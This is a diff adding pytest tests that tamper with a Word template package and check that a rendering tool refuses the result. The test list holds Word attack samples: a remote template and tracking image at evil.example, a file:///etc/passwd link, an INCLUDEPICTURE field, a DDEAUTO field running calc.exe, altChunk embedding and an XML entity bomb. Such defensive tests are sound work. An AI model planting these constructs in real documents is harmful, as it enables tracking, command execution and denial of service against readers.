@@ -713,3 +713,89 @@ def test_a_letterhead_website_with_its_scheme_is_linked_as_written(
     ]
     assert "http://example.org/en" in links
     assert all(link.startswith(("https://", "http://", "mailto:")) for link in links), links
+
+
+R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _rel(kind: str, target: str, external: bool = True) -> Callable[[dict[str, bytes]], None]:
+    """A change to a Word package: one more relationship of the document."""
+
+    def change(parts: dict[str, bytes]) -> None:
+        mode = ' TargetMode="External"' if external else ""
+        rel = f'<Relationship Id="rId99" Type="{R}/{kind}" Target="{target}"{mode}/>'
+        name = "word/_rels/document.xml.rels"
+        parts[name] = parts[name].replace(b"</Relationships>", rel.encode() + b"</Relationships>")
+
+    return change
+
+
+def _in_body(xml: str) -> Callable[[dict[str, bytes]], None]:
+    def change(parts: dict[str, bytes]) -> None:
+        name = "word/document.xml"
+        parts[name] = parts[name].replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)
+
+    return change
+
+
+def _part(name: str, data: bytes) -> Callable[[dict[str, bytes]], None]:
+    def change(parts: dict[str, bytes]) -> None:
+        parts[name] = data
+
+    return change
+
+
+BOMB = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><r>&b;</r>'
+# A change to the shipped appeal.docx, and the part and words the refusal names.
+WORD_ATTACKS = [
+    (_rel("attachedTemplate", "https://evil.example/t.dotm"), "word/_rels/document.xml.rels", "attachedTemplate"),
+    (_rel("image", "https://evil.example/pixel.png"), "word/_rels/document.xml.rels", "reaches outside the document (image to 'https://evil.example/pixel.png')"),
+    (_rel("hyperlink", "file:///etc/passwd"), "word/_rels/document.xml.rels", "reaches outside the document (hyperlink to 'file:///etc/passwd')"),
+    (_rel("aFChunk", "chunk.html", external=False), "word/_rels/document.xml.rels", "aFChunk"),
+    (_in_body('<w:p><w:r><w:instrText> INCLUDEPICTURE "https://evil.example/p.png" </w:instrText></w:r></w:p>'), "word/document.xml", "INCLUDEPICTURE field"),
+    (_in_body('<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\calc.exe\'/>'), "word/document.xml", "DDEAUTO field"),
+    (_in_body("<w:altChunk r:id=\"rId99\"/>"), "word/document.xml", "altChunk"),
+    (_part("word/styles.xml", b"<w:styles><unclosed></w:styles>"), "word/styles.xml", "is not well-formed XML"),
+    (_part("word/settings.xml", BOMB), "word/settings.xml", "declares a DOCTYPE or entities"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("attack", "part", "said"), WORD_ATTACKS)
+def test_a_word_template_that_reaches_outside_or_is_broken_is_refused_by_both_commands(
+    tmp_path: Path, run: Runner, attack: Callable[[dict[str, bytes]], None], part: str, said: str
+) -> None:
+    import zipfile
+
+    folder = tmp_path / "templates"
+    assert run("templates", "export", folder).code == 0
+    word = folder / "appeal" / "appeal.docx"
+    with zipfile.ZipFile(word) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    attack(parts)
+    with zipfile.ZipFile(word, "w") as package:
+        for name, data in parts.items():
+            package.writestr(name, data)
+    checked = run("templates", "check", folder)
+    assert checked.code == 1
+    [line] = [line for line in checked.out.splitlines() + checked.err.splitlines() if part in line]
+    assert line.startswith(f"{word}: {part}: ") and said in line, line
+    rendered = run("render", "appeal", TINY, "--templates", folder, "--out", tmp_path / "out")
+    assert rendered.code == 1
+    assert rendered.err.startswith(f"error: {word}: {part}: ") and said in rendered.err
+    assert len(rendered.err.splitlines()) == 1 and "Traceback" not in rendered.err
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_word_template_that_is_no_zip_is_refused_by_both_commands(
+    tmp_path: Path, run: Runner
+) -> None:
+    folder = tmp_path / "templates"
+    assert run("templates", "export", folder).code == 0
+    word = folder / "appeal" / "appeal.docx"
+    word.write_text("not a zip")
+    said = "is not a Word document (not a zip file): save it as .docx"
+    checked = run("templates", "check", folder)
+    assert checked.code == 1 and f"{word}: {said}" in checked.out + checked.err
+    rendered = run("render", "appeal", TINY, "--templates", folder, "--out", tmp_path / "out")
+    assert (rendered.code, rendered.err) == (1, f"error: {word}: {said}\n")
+    assert not (tmp_path / "out").exists()
